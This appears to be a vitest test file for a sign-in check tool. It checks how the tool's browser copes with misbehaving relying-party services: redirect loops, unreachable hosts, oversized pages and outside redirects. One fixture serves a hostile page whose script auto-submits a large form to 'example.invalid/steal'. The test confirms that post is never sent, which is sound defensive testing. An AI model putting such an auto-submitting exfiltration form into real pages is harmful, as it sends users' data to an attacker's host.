/**
 * The check's browser against services that misbehave: each bad service gives its step a clear
 * reason (never a pass, never a crash) and the run goes on to the next step.
 */
import type { AddressInfo } from 'node:net';
import type { Server } from 'node:http';
import express from 'express';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RpCheckStatus, StepResult } from '../../src/rp-check/rp-check-types.js';
import { MAX_PAGE_BYTES } from '../../src/rp-check/drive/driver-browser.js';
import { DEFAULT_CLIENT_ID } from '../helpers/relying-party.js';
import { listeningSimulator, type ListeningSimulator } from '../helpers/test-simulator.js';

const API = '/_simulator/api/rp-check';
const FIVE_MB = 'x'.repeat(5 * 1024 * 1024);

let sim: ListeningSimulator;
let server: Server;
let svc: string;
let closedPort: number;

beforeAll(async () => {
  const app = express();
  const authorize = (callback: string) =>
    `${sim.baseUrl}/authorize?${new URLSearchParams({
      response_type: 'code',
      client_id: DEFAULT_CLIENT_ID,
      redirect_uri: `${svc}${callback}`,
      scope: 'openid',
      state: 'state-0123456789',
      nonce: 'nonce-0123456789',
    })}`;
  app.get('/home', (_req, res) => {
    res.send('<html><head><title>Welcome</title></head><body>No sign-in here</body></html>');
  });
  app.get('/loop', (_req, res) => res.redirect(302, '/loop'));
  app.get('/always', (_req, res) => {
    res.send('<title>Account</title>Hello');
  });
  app.get('/login', (_req, res) => res.redirect(302, authorize('/callback')));
  app.get('/callback', (_req, res) => {
    res.setHeader('Set-Cookie', 'signed=1; Path=/');
    res.redirect(302, '/me');
  });
  app.get('/me', (req, res) => {
    if (!/signed=1/.test(req.headers.cookie ?? '')) return res.redirect(302, '/login');
    res.send('<title>Me</title>Signed in');
  });
  // A sign-in that goes through a meta refresh and a form the page submits by itself.
  app.get('/refresh-login', (_req, res) =>
    res.send('<meta http-equiv="refresh" content="0; url=/post-login"><title>Wait</title>'),
  );
  app.get('/post-login', (_req, res) =>
    res.send(
      '<body onload="document.forms[0].submit()"><form method="post" action="/go"><input type="hidden" name="go" value="1"><noscript><button>Continue</button></noscript></form></body>',
    ),
  );
  app.post('/go', express.urlencoded({ extended: false }), (req, res) => {
    if ((req.body as Record<string, string>).go !== '1') return res.status(400).send('no form');
    res.redirect(303, authorize('/callback'));
  });
  // Signed-in pages that are not HTML.
  app.get('/me-text', (req, res) => {
    if (!/signed=1/.test(req.headers.cookie ?? '')) return res.redirect(302, '/login');
    res.type('text/plain').send('Signed in\nas Sarah PATEL');
  });
  app.get('/me-json', (req, res) => {
    if (!/signed=1/.test(req.headers.cookie ?? '')) return res.status(401).json({ error: 'no' });
    res.json({ user: { status: 'Signed in', family_name: 'PATEL' } });
  });
  app.get('/big-login', (_req, res) => res.redirect(302, authorize('/big')));
  app.get('/big', (_req, res) => {
    res.setHeader('Set-Cookie', 'signed=1; Path=/');
    res
      .type('html')
      .send(`<html><head><title>Big page</title></head><body>${FIVE_MB}</body></html>`);
  });
  app.get('/hostile', (_req, res) => {
    // A form meant to make the browser post somewhere else, with thousands of fields.
    const fields = Array.from(
      { length: 5000 },
      (_, i) => `<input name="f${i}" value="${'v'.repeat(100)}">`,
    ).join('');
    res.send(
      `<title>Hostile</title><form method="post" action="http://example.invalid/steal"><form action="${sim.baseUrl}/form-submit" method="post">${fields}<button>Go</button></form><script>document.forms[0].submit()</script>`,
    );
  });
  app.get('/outside', (_req, res) => res.redirect(302, 'http://example.invalid/elsewhere'));
  server = app.listen(0, '127.0.0.1');
  await new Promise<void>((r) => server.once('listening', () => r()));
  svc = `http://localhost:${(server.address() as AddressInfo).port}`;
  const closed = express().listen(0, '127.0.0.1');
  await new Promise<void>((r) => closed.once('listening', () => r()));
  closedPort = (closed.address() as AddressInfo).port;
  await new Promise<void>((r) => closed.close(() => r()));
  sim = await listeningSimulator();
  // Registered after start-up (as in the window): each step keeps the client the run started with.
  const client = sim.simulator.config.get().clientConfiguration;
  const registered = sim.simulator.config.update({
    clientConfiguration: { ...client, redirectUrls: [`${svc}/callback`, `${svc}/big`] },
  });
  if (!registered.ok) throw new Error(JSON.stringify(registered.error));
});

afterAll(async () => {
  server.closeAllConnections();
  await new Promise<void>((r) => server.close(() => r()));
  sim.simulator.close();
  await sim.close();
});

const PLAN = {
  name: 'One sign-in, then another',
  steps: [
    { id: 'first', title: 'First', kind: 'sign-in', instruction: 'Sign in.', expectation: 'Ok.' },
    { id: 'second', title: 'Second', kind: 'sign-in', instruction: 'Sign in.', expectation: 'Ok.' },
  ],
};

async function drive(drive: Record<string, unknown>): Promise<StepResult[]> {
  const res = await fetch(`${sim.baseUrl}${API}/start`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ plan: PLAN, attended: false, drive }),
  });
  expect(res.status, await res.clone().text()).toBe(201);
  for (let i = 0; i < 400; i++) {
    const s = (await (await fetch(`${sim.baseUrl}${API}`)).json()) as RpCheckStatus;
    if (s.state === 'finished') return s.steps;
    await new Promise((r) => setTimeout(r, 50));
  }
  throw new Error('the run did not finish');
}

describe('the check reads a service as a browser does', () => {
  it('follows a meta refresh and a self-submitting form, and reads text/plain and JSON pages', async () => {
    for (const [signedIn, type] of [
      ['/me-text', 'text'],
      ['/me-json', 'json'],
    ] as const) {
      const steps = await drive({
        signIn: `${svc}/refresh-login`,
        signedIn: `${svc}${signedIn}`,
        signedInText: 'signed in',
      });
      for (const s of steps) {
        // This service never redeems its code (the verdict fails on that); what the browser saw:
        expect(s.outcome?.signedIn, `${signedIn} ${s.id}: ${s.outcome?.error}`).toBe(true);
        expect(s.outcome?.probe?.type).toBe(type);
        expect(s.outcome?.probe?.detail).toBe(`it answered 200 (${type}) with "signed in"`);
        expect(s.outcome?.page?.hops?.map((h) => new URL(h).pathname)).toEqual(
          expect.arrayContaining([
            '/refresh-login',
            '/post-login',
            '/go',
            '/authorize',
            '/callback',
          ]),
        );
      }
    }
  }, 30_000);
});

describe('the check drives a service that misbehaves', () => {
  it('a sign-in address that does not answer: the run does not start (422), nothing changes', async () => {
    const down = `http://127.0.0.1:${closedPort}`;
    const before = await (await fetch(`${sim.baseUrl}${API}`)).text();
    const configBefore = JSON.stringify(sim.simulator.config.get());
    const res = await fetch(`${sim.baseUrl}${API}/start`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({
        plan: PLAN,
        attended: false,
        drive: { signIn: `${down}/login?x=1`, signedIn: `${down}/me` },
      }),
    });
    expect(res.status).toBe(422);
    expect(await res.json()).toEqual({
      error: 'service_unreachable',
      error_description: `the service did not answer at ${down}/login (ECONNREFUSED): start it, or correct the sign-in address`,
      issues: [{ path: 'drive.signIn', message: 'could not be reached: ECONNREFUSED' }],
    });
    expect(await (await fetch(`${sim.baseUrl}${API}`)).text()).toBe(before);
    expect(JSON.stringify(sim.simulator.config.get())).toBe(configBefore);
    // The plan's own service section is probed too, and named as such.
    const own = await fetch(`${sim.baseUrl}${API}/start`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({
        plan: { ...PLAN, service: { signIn: `${down}/login`, signedIn: `${down}/me` } },
        attended: false,
      }),
    });
    expect(own.status).toBe(422);
    expect(((await own.json()) as { issues: unknown }).issues).toEqual([
      { path: 'plan.service.signIn', message: 'could not be reached: ECONNREFUSED' },
    ]);
    // Wrong types are still refused as before, without probing anything.
    for (const bad of [42, null, [], {}, { signIn: 42, signedIn: `${down}/me` }]) {
      const r = await fetch(`${sim.baseUrl}${API}/start`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ plan: PLAN, attended: false, drive: bad }),
      });
      expect(r.status).toBe(400);
      expect(((await r.json()) as { error: string }).error).toBe('invalid_request');
    }
    expect(await (await fetch(`${sim.baseUrl}${API}`)).text()).toBe(before);
  }, 30_000);

  it('a service that stops answering during the run: "could not reach … (ECONNREFUSED)", not judged, and the run goes on', async () => {
    const down = `http://127.0.0.1:${closedPort}`;
    const steps = await drive({ signIn: `${svc}/login`, signedIn: `${down}/me` });
    for (const s of steps) {
      expect(s.status).toBe('not-judged');
      expect(s.reason).toContain(`could not reach ${down}/me (ECONNREFUSED)`);
      expect(s.outcome?.source).toBe('driver');
    }
  }, 30_000);

  it('a sign-in address that never reaches the simulator: not judged, with the page it showed', async () => {
    const [s] = await drive({ signIn: `${svc}/home`, signedIn: `${svc}/me` });
    expect(s?.status).toBe('not-judged');
    expect(s?.reason).toContain(`${svc}/home never sent the browser to the simulator`);
    expect(s?.outcome?.page).toEqual({
      url: `${svc}/home`,
      status: 200,
      title: 'Welcome',
      contentType: 'text/html',
      type: 'html',
    });
  }, 30_000);

  it('a redirect loop stops after 20 redirects', async () => {
    const [s] = await drive({ signIn: `${svc}/loop`, signedIn: `${svc}/me` });
    expect(s?.status).toBe('not-judged');
    expect(s?.reason).toContain('did not end after 20 redirects');
  }, 30_000);

  it('an address outside the service and the simulator is never requested', async () => {
    const [s] = await drive({ signIn: `${svc}/outside`, signedIn: `${svc}/me` });
    expect(s?.status).toBe('not-judged');
    expect(s?.reason).toContain('http://example.invalid/elsewhere');
    expect(s?.reason).toContain('does not follow it');
  }, 30_000);

  it('a probe that always answers 200 proves nothing: not judged', async () => {
    const [s] = await drive({ signIn: `${svc}/login`, signedIn: `${svc}/always` });
    expect(s?.status).toBe('not-judged');
    expect(s?.reason).toContain('counts a browser that never signed in as signed in');
    // The journey was not even started: no sign-in reached the simulator.
    expect(s?.exchanges.filter((e) => e.endpoint === 'authorize')).toEqual([]);
  }, 30_000);

  it('a working probe tells signed in (and the signed-in text must show)', async () => {
    const [s] = await drive({ signIn: `${svc}/login`, signedIn: `${svc}/me` });
    expect(s?.outcome).toMatchObject({
      signedIn: true,
      page: { url: `${svc}/me`, status: 200, title: 'Me' },
      probe: { url: `${svc}/me`, status: 200, signedIn: true },
    });
    const [t] = await drive({
      signIn: `${svc}/login`,
      signedIn: `${svc}/me`,
      signedInText: 'Your account',
    });
    expect(t?.outcome?.probe).toMatchObject({
      signedIn: false,
      detail: expect.stringContaining('without "Your account"'),
    });
  }, 30_000);

  it('a 5 MB page is read up to the cap and the journey goes on', async () => {
    expect(FIVE_MB.length).toBeGreaterThan(MAX_PAGE_BYTES);
    const [s, next] = await drive({ signIn: `${svc}/big-login`, signedIn: `${svc}/me` });
    expect(s?.outcome).toMatchObject({
      signedIn: true,
      page: { url: `${svc}/big`, status: 200, title: 'Big page' },
    });
    expect(next?.outcome?.signedIn).toBe(true);
  }, 30_000);

  it('a hostile form on the service is never submitted', async () => {
    const [s] = await drive({ signIn: `${svc}/hostile`, signedIn: `${svc}/me` });
    expect(s?.status).toBe('not-judged');
    // The page submits its form by itself: the check follows it only to the service's and the
    // simulator's own addresses, so the post to another host is refused, not sent.
    expect(s?.reason).toContain(
      "the journey led to http://example.invalid/steal, which is neither one of the service's addresses nor the simulator's",
    );
    expect(s?.exchanges.filter((e) => e.endpoint === 'interactive')).toEqual([]);
  }, 30_000);
});
